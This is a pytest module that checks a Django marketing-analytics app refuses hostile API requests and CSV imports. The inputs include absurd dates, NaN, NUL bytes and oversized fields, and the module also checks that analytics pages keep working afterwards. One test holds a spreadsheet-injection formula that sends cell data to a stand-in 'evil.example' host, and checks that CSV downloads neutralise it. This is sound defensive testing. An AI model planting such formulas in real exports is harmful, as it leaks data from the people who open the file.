"""Hostile inputs, as a careless or hostile user sends them (issue 13): each is refused with a clear error that
names the field (API 422, importer exit status 2 naming line and column), nothing is half-written, and afterwards
every analytics endpoint and page still answers 200.

The cases are the issue's: dates in 2300, year 1 and 9999, integer timestamps, NaN and infinity, negative values,
huge and non-digit ids, NUL bytes and control characters, over-long text, a deal closed before it opened, a stage
change to the stage a contact is in, spreadsheet formulas in names, undecodable and oversized import files.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
from typing import Any

import pytest
from django.test import Client

from smarketing.conftest import ApiClient

HUGE = 2**70
TOUCH = {"channel": "email", "kind": "email_click", "occurred_at": "2026-11-24T15:00:00Z", "source": "hostile"}


@pytest.fixture
def company(db) -> dict[str, Any]:
    """An active playbook, one user per role with a token, a contact on an account, a campaign."""
    from smarketing.lifecycle.services import stage_change_record
    from smarketing.playbook.services import playbook_bootstrap
    from smarketing.team.services import api_token_create, user_create
    from smarketing.testing.factories import CampaignFactory, ContactFactory

    playbook_bootstrap()
    users = {role: user_create(username=f"{role}1", password="pw", role=role, email=f"{role}1@example.com")
             for role in ("revops", "marketing", "sales", "viewer")}
    tokens = {role: api_token_create(user=u, name="test")[1] for role, u in users.items()}
    contact = ContactFactory()
    stage_change_record(contact=contact, to_stage="lead")  # its entry: from now on it is in the lead stage
    return {"users": users, "api": ApiClient(tokens), "contact": contact, "campaign": CampaignFactory()}


def _counts() -> dict[str, int]:
    from smarketing.campaigns.models import Campaign, Touchpoint
    from smarketing.crm.models import Account, Contact, Opportunity
    from smarketing.feedback.models import FeedbackItem
    from smarketing.lifecycle.models import StageChange
    from smarketing.playbook.models import PlaybookVersion

    return {model.__name__: model.objects.count()
            for model in (Account, Contact, Opportunity, Campaign, Touchpoint, StageChange, FeedbackItem,
                          PlaybookVersion)}


def _requests(company: dict[str, Any]) -> dict[str, tuple[str, Any]]:
    """Each hostile API request: (path, body); the body is sent as raw JSON text when it is a str."""
    contact = company["contact"].pk
    account = company["contact"].account_id
    touch = {**TOUCH, "contact_id": contact}
    return {
        "touch dated 2300": ("/api/touchpoints", {**touch, "occurred_at": "2300-01-01T00:00:00Z", "source_id": "a"}),
        "touch dated year 1": ("/api/touchpoints", {**touch, "occurred_at": "0001-01-01T00:00:00Z", "source_id": "b"}),
        "touch dated 9999": ("/api/touchpoints", {**touch, "occurred_at": "9999-12-31T23:59:59Z", "source_id": "c"}),
        "touch at an integer time": ("/api/touchpoints", {**touch, "occurred_at": 1_700_000_000, "source_id": "d"}),
        "touch with a negative value": ("/api/touchpoints", {**touch, "value": -5, "source_id": "e"}),
        "touch with a NaN value": ("/api/touchpoints", json.dumps({**touch, "source_id": "f"})[:-1] + ', "value": NaN}'),
        "touch with an infinite value": ("/api/touchpoints",
                                         json.dumps({**touch, "source_id": "g"})[:-1] + ', "value": Infinity}'),
        "touch with a value of 1e30": ("/api/touchpoints", {**touch, "value": 1e30, "source_id": "h"}),
        "touch of a contact id 2^70": ("/api/touchpoints", {**touch, "contact_id": HUGE, "source_id": "i"}),
        "touch with a NUL byte": ("/api/touchpoints", {**touch, "source_id": "nul\x00byte"}),
        "touch with a 5,000-character id": ("/api/touchpoints", {**touch, "source_id": "x" * 5000}),
        "stage change dated 2300": ("/api/stage-changes", {"contact_id": contact, "to_stage": "mql",
                                                           "occurred_at": "2300-01-01T00:00:00Z"}),
        "stage change from lead to lead": ("/api/stage-changes", {"contact_id": contact, "to_stage": "lead"}),
        "deal closed before it opened": ("/api/opportunities", {
            "account_id": account, "name": "Backwards deal", "opened_at": "2026-10-01T00:00:00Z",
            "closed_at": "2026-09-01T00:00:00Z", "outcome": "won", "stage": "closed_won", "amount": "1000"}),
        "deal of a negative amount": ("/api/opportunities", {"account_id": account, "name": "Negative", "amount": -1}),
        "contact with a control character": ("/api/contacts", {"email": "x@example.com", "first_name": "A\x07b"}),
        "contact with 2 MB of text": ("/api/contacts", {"email": "y@example.com", "title": "t" * (2 * 1024 * 1024)}),
        "feedback with a NUL byte": ("/api/feedback", {"text": "price is \x00 too high", "kind": "objection"}),
        "feedback of 2 MB": ("/api/feedback", {"text": "w" * (2 * 1024 * 1024), "kind": "objection"}),
        "feedback dated 9999": ("/api/feedback", {"text": "too expensive", "occurred_at": "9999-01-01T00:00:00Z"}),
        "campaign starting in year 1": ("/api/campaigns", {"name": "Old", "channel": "email",
                                                          "start_date": "0001-01-01"}),
    }


# Cases whose fix is another area's, still open: strict, so each turns into a failure the day it is fixed.
OPEN: dict[str, str] = {}
CASES = [pytest.param(case, marks=pytest.mark.xfail(strict=True, reason=OPEN[case])) if case in OPEN else case
         for case in _requests({"contact": type("C", (), {"pk": 1, "account_id": 1})()})]


def _send(api: ApiClient, path: str, body: Any) -> Any:
    data = body if isinstance(body, str) else json.dumps(body)
    return api.client.post(path, data, content_type="application/json",
                           headers={"Authorization": f"Bearer {api.tokens['revops']}"})


@pytest.mark.parametrize("case", CASES)
def test_a_hostile_request_is_a_clear_4xx_and_writes_nothing(company, case):
    path, body = _requests(company)[case]
    before = _counts()

    response = _send(company["api"], path, body)

    assert response.status_code in (413, 422), (case, response.status_code, response.content[:300])
    error = response.json()
    assert error["code"] in ("validation_error", "too_large") and error["message"], error
    assert _counts() == before


def test_a_playbook_with_a_nan_is_refused_by_field(company):
    from smarketing.playbook.selectors import playbook_version_active_get

    content = playbook_version_active_get().content
    text = json.dumps({"content": content, "notes": "NaN threshold"})
    text = text.replace(f'"mql_threshold": {json.dumps(content["scoring"]["mql_threshold"])}', '"mql_threshold": NaN')
    assert "NaN" in text
    before = _counts()

    response = _send(company["api"], "/api/playbook/versions", text)

    assert response.status_code == 422, response.content[:300]
    assert "mql_threshold" in response.content.decode()
    assert _counts() == before


def test_formulas_in_names_are_neutralised_in_csv_downloads(company):
    from smarketing.campaigns.services import campaign_create

    formula = '=HYPERLINK("http://evil.example/?"&B2, "click")'
    campaign_create(name=formula, channel="email", start_date=company["campaign"].start_date)
    client = Client()
    client.force_login(company["users"]["revops"])

    response = client.get("/campaigns/", {"format": "csv"})

    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row if "HYPERLINK" in cell]
    assert cells, rows[:3]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells), cells


# ------------------------------------------------------------------------------------------------- import files

def _touch_rows(contact_id: Any, **cells: str) -> str:
    row = {"contact_id": str(contact_id), "channel": "sales", "kind": "sales_call",
           "occurred_at": "2026-11-24T16:00:00Z", "value": "", "source_id": "t-1", **cells}
    return ",".join(row) + "\n" + ",".join(row.values()) + "\n"


def _files(contact_id: int) -> dict[str, bytes]:
    return {
        "latin-1 text": _touch_rows(contact_id, source_id="caf\xe9").encode("latin-1"),
        "binary": bytes(range(256)) * 40,
        "a field over 131,072 characters": _touch_rows(contact_id, source_id="x" * 131_073).encode(),
        "a superscript digit as id": _touch_rows("\u00b2").encode(),
        "a 23-digit id": _touch_rows("1" * 23).encode(),
        "an infinite value": _touch_rows(contact_id, value="inf").encode(),
        "a value of 1e30": _touch_rows(contact_id, value="1e30").encode(),
        "a date in year 9999": _touch_rows(contact_id, occurred_at="9999-12-31T00:00:00Z").encode(),
        "a date in 2300": _touch_rows(contact_id, occurred_at="2300-01-01T00:00:00Z").encode(),
        "a NUL byte": _touch_rows(contact_id, source_id="a\x00b").encode(),
    }


IMPORT_OPEN: dict[str, str] = {}  # every case is a clear error now: a case that regresses fails
FILES = [pytest.param(case, marks=pytest.mark.xfail(strict=True, reason=IMPORT_OPEN[case]))
         if case in IMPORT_OPEN else case for case in _files(1)]


@pytest.mark.parametrize("case", FILES)
def test_a_hostile_import_file_is_a_clear_error_without_a_traceback(company, tmp_path, capsys, case):
    from smarketing.cli import main

    path = tmp_path / "touches.csv"
    path.write_bytes(_files(company["contact"].pk)[case])
    before = _counts()

    with pytest.raises(SystemExit) as exc:
        main(["import", "touchpoints", str(path), "--source", "hostile"])

    err = capsys.readouterr().err
    assert "Traceback" not in err
    if case == "a NUL byte" and exc.value.code == 0:
        # Why: text is stripped of control characters, so a NUL may be dropped rather than refused
        from smarketing.campaigns.models import Touchpoint

        assert not Touchpoint.objects.filter(source_id__contains="\x00").exists()
        return
    assert exc.value.code == 2, err
    assert "line" in err, err
    assert _counts() == before


# ------------------------------------------------------------------------------------------- and then, still up

ANALYTICS = [
    ("/api/analytics/funnel", {"from_stage": "mql", "to_stage": "customer"}),
    ("/api/analytics/journeys", {}),
    ("/api/analytics/attribution", {}),
    ("/api/analytics/roi", {}),
    ("/api/metrics", {"period": "2026"}),
    ("/api/lifecycle/handoff/queue", {}),
]
PAGES = ["/", "/funnel/", "/goals/", "/journeys/", "/campaigns/", "/handoff/", "/feedback/", "/playbook/",
         "/metrics/"]


def test_after_every_hostile_input_analytics_and_pages_still_answer_200(company, tmp_path, capsys):
    from smarketing.cli import main

    # given every hostile request and file attempted (refused or not)
    for path, body in _requests(company).values():
        _send(company["api"], path, body)
    for i, content in enumerate(_files(company["contact"].pk).values()):
        (tmp_path / f"f{i}.csv").write_bytes(content)
        with contextlib.suppress(SystemExit, Exception):  # refused or crashed: what matters here is what is left
            main(["import", "touchpoints", str(tmp_path / f"f{i}.csv"), "--source", "hostile"])
    capsys.readouterr()
    client = Client()
    client.force_login(company["users"]["revops"])

    # then every analytics endpoint and page still answers
    broken = []
    for path, params in ANALYTICS:
        response = company["api"].get(path, **params)
        if response.status_code != 200:
            broken.append(f"{path}: {response.status_code} {response.content[:200]!r}")
    for page in PAGES:
        response = client.get(page)
        if response.status_code != 200:
            broken.append(f"{page}: {response.status_code}")

    assert broken == []


@pytest.mark.parametrize("period", [
    "9999-12", "0001-01", "2026-13", "10000", "9999-01-01..9999-12-31"])
def test_a_period_out_of_range_on_a_page_is_a_4xx_with_the_layout(company, period):
    client = Client()
    client.force_login(company["users"]["revops"])

    for page in ("/", "/funnel/", "/goals/", "/metrics/", "/handoff/"):
        response = client.get(page, {"period": period})

        assert response.status_code in (200, 400, 422), (page, response.status_code)
        if response.status_code != 200:
            assert "<nav" in response.content.decode(), page
